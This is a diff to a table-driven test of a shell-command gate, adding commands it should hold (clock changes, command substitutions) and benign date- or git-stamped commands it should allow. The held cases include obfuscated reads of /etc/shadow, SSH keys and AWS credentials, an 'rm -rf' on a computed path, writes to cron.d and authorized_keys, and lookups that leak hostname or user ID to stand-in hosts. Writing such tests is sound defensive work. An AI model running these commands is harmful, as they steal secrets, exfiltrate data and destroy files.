@@ -10,7 +10,8 @@ HELD = [
     # a wrapper's own options, not the wrapped command's (-xeu, -name are journalctl's, find's)
     "sudo -e /etc/sudoers", "sudo --edit /etc/hosts", "sudo -u root -e /etc/sudoers.d/x",
     "sudo -E -e /etc/sudoers", "sudoedit /etc/sudoers", "sudo -Ee /etc/sudoers",
-    "sudo -i", "sudo -s", "sudo -u root -s",
+    "sudo -i", "sudo -s", "sudo -u root -s", "date -s 12:00", "date -us 12:00",
+    "date --set=12:00", "date -Is -s 12:00",
     # $'...' and $"..." outside single quotes are still computed (bash decodes escapes)
     "cat $'/etc/shado\\x77'", "rm -rf $'/\\x65tc'", "grep $'x' ~/.ssh/id_rsa",
     "cat '/etc/'$'shadow'",
@@ -18,6 +19,13 @@ HELD = [
     "grep -e foo ~/.ssh/id_rsa", "grep -f ~/.ssh/id_rsa app.log",
     "grep -f pats.txt ~/.aws/credentials", "rg -e x -- ~/.ssh/id_rsa", "grep x .env",
     "grep foo '/root/.ssh/id_$'", "git log --grep=x -- ~/.ssh", "grep -r password ~",
+    # a substitution is tame only when its output cannot be a path, a blank or an option
+    "cat $(date +/etc/shadow)", "cat $(date +%D)", "cat $(date '+%Y %m')", "rm -rf $(date +%F)",
+    "cat $(date +-x)", "cat ~/.ssh/id_$(whoami)", "ls > $(date +/etc/cron.d/x)",
+    "cat $(cat /etc/hostname)", "cp x $(git rev-parse --abbrev-ref HEAD)",
+    "echo ok > ~/.ssh/authorized_keys$(date +%s)", "dig $(hostname).x.example",
+    "nslookup $(whoami).x.example", "curl https://x.example/$(id -u)", "ping -c1 $(uname -n).e.x", "cat $(date -r /etc/shadow +%F) /etc/shadow",
+    "cat \"$(hostname)\" $(date +%F) ~/.aws/credentials", "echo $(id) > x.sh",
     "ag x ~/.ssh/id_rsa", "cat '$HOME'/.ssh/id_rsa $HOME/.ssh/id_rsa",
     "grep x \"$HOME/.ssh/id_rsa\" '$HOME'", "grep --regexp=x /etc/shadow",
     "journalctl -g x --file /root/x",
@@ -34,6 +42,12 @@ ALLOWED = [
     "rg 'TODO.*' src", "git log --grep='fix.*' --oneline", "grep -o 'id=[0-9]*' app.log",
     "grep -e 'key.*=' -e 'secret$' app.log", "journalctl -u api -g 'timeout$'",
     "git log --author='bob.*' --oneline -5",
+    "tar czf logs-$(date +%Y%m%d).tar.gz logs/", "cp app.log app.log.$(date +%s)",
+    "git tag v$(date +%Y.%m.%d)", "echo ok > out-$(date +%F).log", "echo `date +%F` >> notes.txt",
+    "cp x backup-$(date -u +%Y%m%dT%H%M%S).bak", "mkdir -p builds/$(git rev-parse --short HEAD)",
+    "echo \"built at $(date -Iseconds)\" >> build.log",
+    'git log --since="$(date -d yesterday +%F)"',
+    "make -j$(nproc)",
 ]
 
 test_held, test_allowed = table_tests(HELD, ALLOWED)
